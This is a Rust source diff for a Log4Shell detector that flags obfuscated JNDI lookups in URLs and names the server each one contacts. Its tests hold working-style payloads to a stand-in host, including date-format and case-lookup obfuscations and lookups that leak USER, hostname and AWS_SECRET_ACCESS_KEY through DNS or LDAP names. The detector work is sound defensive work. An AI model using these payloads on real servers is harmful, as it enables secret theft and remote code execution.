@@ -38,8 +38,9 @@ pub(crate) struct JndiLookup {
     /// Whether nested lookups spelled part of it.
     pub(crate) nested: bool,
     /// The lookups in the name that Log4j fills in from the server's
-    /// state (`${env:USER}`), as written, in order.
-    pub(crate) filled: Vec<Vec<u8>>,
+    /// state, in order: each as written (`${env:USER}`) and the label it
+    /// stands as in [`JndiLookup::reading`] (`env-user`).
+    pub(crate) filled: Vec<(Vec<u8>, Vec<u8>)>,
     /// The name as a URL reads it: each filled lookup written as a label
     /// of its own name ([`stand_in`]); the name itself when there is none.
     pub(crate) reading: Vec<u8>,
@@ -50,6 +51,46 @@ impl JndiLookup {
     /// lookup spelled or fills in any of it.
     pub(crate) fn as_written(&self) -> bool {
         !self.nested && self.filled.is_empty()
+    }
+
+    /// The name read as a URL whose own labels say where it leads: `None`
+    /// when it is no URL, or when a filled lookup stands for its port, its
+    /// last label or its whole host (the server fills in where it
+    /// connects, so no host of the reading is one).
+    pub(crate) fn readable(&self) -> Option<url::Url> {
+        let u = url::Url::parse(&String::from_utf8_lossy(&self.reading)).ok()?;
+        let stands_in = |label: &str| self.filled.iter().any(|(_, s)| s == label.as_bytes());
+        let last = u
+            .host_str()
+            .map(|h| h.trim_end_matches('.').rsplit('.').next().unwrap_or(h));
+        if last.is_some_and(stands_in) {
+            return None;
+        }
+        Some(u)
+    }
+
+    /// The host (and port) the lookup asks, its stand-in labels written
+    /// as the lookups they stand for (`${env:USER}.evil.example:1389`).
+    fn server(&self) -> Option<String> {
+        let u = self.readable()?;
+        let host: Vec<String> = u
+            .host_str()?
+            .split('.')
+            .map(|label| {
+                self.filled
+                    .iter()
+                    .find(|(_, s)| s == label.as_bytes())
+                    .map_or_else(
+                        || label.to_string(),
+                        |(w, _)| String::from_utf8_lossy(w).into_owned(),
+                    )
+            })
+            .collect();
+        let host = host.join(".");
+        Some(match u.port() {
+            Some(port) => format!("{host}:{port}"),
+            None => host,
+        })
     }
 }
 
@@ -72,6 +113,9 @@ fn stand_in(body: &[u8]) -> Vec<u8> {
         label.pop();
     }
     label.truncate(crate::plain::MAX_LABEL);
+    while label.last() == Some(&b'-') {
+        label.pop();
+    }
     if label.is_empty() {
         label.push(b'x');
     }
@@ -88,7 +132,7 @@ pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
         start: usize,
         body: Vec<u8>,
         nested: bool,
-        filled: Vec<Vec<u8>>,
+        filled: Vec<(Vec<u8>, Vec<u8>)>,
         reading: Vec<u8>,
     }
     let mut found = Vec::new();
@@ -138,8 +182,9 @@ pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
                             kept.extend_from_slice(&done.body);
                             kept.push(b'}');
                             parent.body.extend_from_slice(&kept);
-                            parent.reading.extend_from_slice(&stand_in(&done.body));
-                            parent.filled.push(kept);
+                            let label = stand_in(&done.body);
+                            parent.reading.extend_from_slice(&label);
+                            parent.filled.push((kept, label));
                         }
                     }
                     parent.nested |= done.nested;
@@ -171,8 +216,9 @@ pub(crate) fn jndi_lookups(text: &[u8]) -> Vec<JndiLookup> {
 
 /// What a nested lookup gives back, for those that need nothing of the
 /// server's state: a default after `:-` (`${::-j}`, `${env:NOPE:-j}`),
-/// `lower:` and `upper:`; `None` for any other, which Log4j fills in
-/// from the server's state.
+/// `lower:` and `upper:`, and a date format that is one quoted literal
+/// (`${date:'j'}`, which `SimpleDateFormat` writes as `j`); `None` for
+/// any other, which Log4j fills in from the server's state.
 fn value(body: &[u8]) -> Option<Vec<u8>> {
     if let Some(d) = memchr::memmem::find(body, b":-") {
         return Some(body.get(d + 2..).unwrap_or_default().to_vec());
@@ -184,6 +230,11 @@ fn value(body: &[u8]) -> Option<Vec<u8>> {
     };
     if let Some(rest) = after(b"lower:") {
         return Some(rest.to_ascii_lowercase());
+    }
+    if let Some([b'\'', literal @ .., b'\'']) = after(b"date:") {
+        if !literal.contains(&b'\'') {
+            return Some(literal.to_vec());
+        }
     }
     after(b"upper:").map(<[u8]>::to_ascii_uppercase)
 }
@@ -271,17 +322,11 @@ fn warning(
     component: Option<usize>,
     what: &str,
 ) -> Warning {
-    let name = String::from_utf8_lossy(&l.reading);
-    let server = url::Url::parse(&name)
-        .ok()
-        .and_then(|u| {
-            let host = crate::text::quote_str(u.host_str()?);
-            Some(match u.port() {
-                Some(port) => format!("the directory at '{host}:{port}'"),
-                None => format!("the directory at '{host}'"),
-            })
-        })
-        .unwrap_or_else(|| "the directory it names".to_string());
+    let server = match l.server() {
+        Some(server) => format!("the directory at '{}'", crate::text::quote_str(&server)),
+        None if l.filled.is_empty() => "the directory it names".to_string(),
+        None => "the directory that what the server fills in names".to_string(),
+    };
     let nested = if l.nested {
         " (its letters spelled by nested lookups Log4j resolves first)"
     } else {
@@ -292,13 +337,7 @@ fn warning(
         filled => {
             let names: Vec<String> = filled
                 .iter()
-                .map(|f| {
-                    format!(
-                        "'{}' (read as '{}')",
-                        quote(f),
-                        quote(&stand_in(f.get(2..f.len() - 1).unwrap_or_default()))
-                    )
-                })
+                .map(|(written, _)| format!("'{}'", quote(written)))
                 .collect();
             let values = if names.len() == 1 {
                 "that value"
@@ -348,6 +387,7 @@ mod tests {
             "${${env:NOPE:-j}ndi:ldap://evil.example/a}",
             "${${upper:j}${lower:N}di:${lower:L}dap://evil.example/a}",
             "${j${${:-l}${:-o}${:-w}${:-e}${:-r}:n}di:ldap://evil.example/a}",
+            "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}",
         ] {
             let found = names(hidden);
             assert_eq!(found.len(), 1, "{hidden}");
@@ -434,12 +474,10 @@ mod tests {
             l.reading,
             b"ldap://env-aws-secret-access-key.hostname.evil.example:1389/a"
         );
+        let written: Vec<&[u8]> = l.filled.iter().map(|(w, _)| w.as_slice()).collect();
         assert_eq!(
-            l.filled,
-            [
-                b"${env:AWS_SECRET_ACCESS_KEY}".to_vec(),
-                b"${hostName}".to_vec()
-            ]
+            written,
+            [&b"${env:AWS_SECRET_ACCESS_KEY}"[..], b"${hostName}"]
         );
         assert!(l.nested && !l.as_written());
         // Inside a resolved lookup, still filled.
@@ -447,7 +485,7 @@ mod tests {
             .try_into()
             .expect("one lookup");
         assert_eq!(l.reading, b"dns://env-user.evil.example");
-        assert_eq!(l.filled, [b"${env:USER}".to_vec()]);
+        assert_eq!(l.filled, [(b"${env:USER}".to_vec(), b"env-user".to_vec())]);
         assert_eq!(stand_in(b"::"), b"x");
         let a = crate::analyze(
             b"https://v.example/?q=${jndi:ldap://${env:USER}.evil.example:1389/a}",
@@ -462,13 +500,12 @@ mod tests {
             .find(|w| w.code == WarningCode::JndiLookup)
             .expect("jndi");
         assert!(
-            w.message.contains("'env-user.evil.example:1389'"),
+            w.message.contains("'${env:USER}.evil.example:1389'"),
             "{}",
             w.message
         );
         assert!(
-            w.message
-                .contains("fills in '${env:USER}' (read as 'env-user')"),
+            w.message.contains("fills in '${env:USER}' from the server"),
             "{}",
             w.message
         );
@@ -476,6 +513,21 @@ mod tests {
             .destinations
             .iter()
             .any(|d| d.site.as_deref() == Some("evil.example")));
+        // A lookup for the whole host, its last label or its port: where
+        // the server connects is its own to fill in; no host is judged.
+        for url in [
+            &b"https://v.example/?q=${jndi:ldap://${env:HOST}/a}"[..],
+            b"https://v.example/?q=${jndi:ldap://evil.${env:TLD}/a}",
+            b"https://v.example/?q=${jndi:ldap://evil.example:${env:PORT}/a}",
+        ] {
+            let a = crate::analyze(url, &crate::Options::default());
+            let codes: Vec<WarningCode> = a.warnings.iter().map(|w| w.code).collect();
+            assert!(codes.contains(&WarningCode::JndiLookup), "{codes:?}");
+            for code in [WarningCode::InternalDestination, WarningCode::InvalidPort] {
+                assert!(!codes.contains(&code), "{codes:?}");
+            }
+            assert_eq!(a.destinations.len(), 1);
+        }
     }
 
     /// Hostile nesting: deep, unclosed, long, in linear time.
